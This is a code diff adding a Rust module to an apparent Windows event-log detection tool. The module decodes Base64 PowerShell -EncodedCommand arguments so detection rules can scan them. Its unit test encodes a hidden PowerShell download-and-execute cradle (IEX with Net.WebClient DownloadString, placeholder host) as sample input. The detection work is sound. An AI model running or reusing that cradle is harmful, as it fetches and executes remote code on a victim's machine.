@@ -0,0 +1,122 @@
+use crate::detections::{configs, detection::EvtxRecordInfo, utils};
+use lazy_static::lazy_static;
+use regex::Regex;
+use serde_json::Value;
+
+// -EncodedCommandのパラメータ名。PowerShellは-e、-enc、-encodedcのような省略形と-ecも受け付ける
+const ENCODED_COMMAND_PARAM: &str = "encodedcommand";
+// デコード結果として扱うBase64の最小の長さ
+const MIN_ENCODED_LENGTH: usize = 8;
+
+lazy_static! {
+    /// --scan-decoded-commandsが指定されている場合はデコードしたコマンドもルールで検知する
+    pub static ref SCAN_DECODED_FLAG: bool = configs::CONFIG
+        .read()
+        .unwrap()
+        .args
+        .is_present("scan-decoded-commands");
+    // -パラメータ名 Base64の組。パラメータは/から始まる場合もある
+    static ref PARAM_REGEX: Regex =
+        Regex::new(r#"(?:^|[\s"'])[-/]([A-Za-z]+)\s+["']?([A-Za-z0-9+/]+={0,2})"#).unwrap();
+}
+
+/// レコードのCommandLineに-EncodedCommandが含まれている場合は、デコードしたコマンドを返す
+pub fn decoded_command(record: &Value) -> Option<String> {
+    let command_line = utils::get_event_value("CommandLine", record).and_then(|v| v.as_str())?;
+    decode_encoded_command(command_line)
+}
+
+/// コマンドラインの-EncodedCommandのBase64をデコードする。PowerShellのエンコードされたコマンドはUTF-16LE
+pub fn decode_encoded_command(command_line: &str) -> Option<String> {
+    PARAM_REGEX.captures_iter(command_line).find_map(|caps| {
+        let param = caps[1].to_lowercase();
+        if param != "ec" && !ENCODED_COMMAND_PARAM.starts_with(&param) {
+            return None;
+        }
+        let encoded = caps[2].trim_end_matches('=');
+        if encoded.len() < MIN_ENCODED_LENGTH {
+            return None;
+        }
+        // パディングを省略したBase64もPowerShellは受け付ける
+        let bytes = base64::decode_config(encoded, base64::STANDARD_NO_PAD).ok()?;
+        if bytes.len() % 2 != 0 {
+            return None;
+        }
+        let utf16: Vec<u16> = bytes
+            .chunks_exact(2)
+            .map(|c| u16::from_le_bytes([c[0], c[1]]))
+            .collect();
+        let decoded = String::from_utf16(&utf16).ok()?;
+        let decoded = decoded.trim_matches(char::from(0)).trim();
+        if decoded.is_empty() {
+            None
+        } else {
+            Some(decoded.to_string())
+        }
+    })
+}
+
+/// --scan-decoded-commandsが指定されている場合は、CommandLineをデコードしたコマンドに置き換えたレコードを追加する
+pub fn add_decoded_records(
+    mut records: Vec<EvtxRecordInfo>,
+    rule_keys: &[String],
+) -> Vec<EvtxRecordInfo> {
+    if !*SCAN_DECODED_FLAG {
+        return records;
+    }
+    let decoded_records: Vec<EvtxRecordInfo> = records
+        .iter()
+        .filter_map(|record| {
+            let decoded = decoded_command(&record.record)?;
+            let mut data = record.record.clone();
+            data["Event"]["EventData"]["CommandLine"] = Value::String(decoded);
+            Some(utils::create_rec_info(
+                data,
+                record.evtx_filepath.to_string(),
+                rule_keys,
+            ))
+        })
+        .collect();
+    records.extend(decoded_records);
+    records
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::detections::powershell::decode_encoded_command;
+
+    #[test]
+    fn test_decode_encoded_command() {
+        // "IEX (New-Object Net.WebClient).DownloadString('http://x')"をUTF-16LEでBase64にしたもの
+        let encoded = base64::encode(
+            "IEX (New-Object Net.WebClient).DownloadString('http://x')"
+                .encode_utf16()
+                .flat_map(|c| c.to_le_bytes())
+                .collect::<Vec<u8>>(),
+        );
+        let expected =
+            Some("IEX (New-Object Net.WebClient).DownloadString('http://x')".to_string());
+        assert_eq!(
+            decode_encoded_command(&format!(
+                "powershell.exe -NoP -sta -NonI -W Hidden -Enc {}",
+                encoded
+            )),
+            expected
+        );
+        assert_eq!(
+            decode_encoded_command(&format!(
+                "\"C:\\Windows\\powershell.exe\" /encodedCommand \"{}\"",
+                encoded.trim_end_matches('=')
+            )),
+            expected
+        );
+        assert_eq!(
+            decode_encoded_command(&format!("powershell.exe -ExecutionPolicy {}", encoded)),
+            None
+        );
+        assert_eq!(
+            decode_encoded_command("powershell.exe -enc notbase64!"),
+            None
+        );
+    }
+}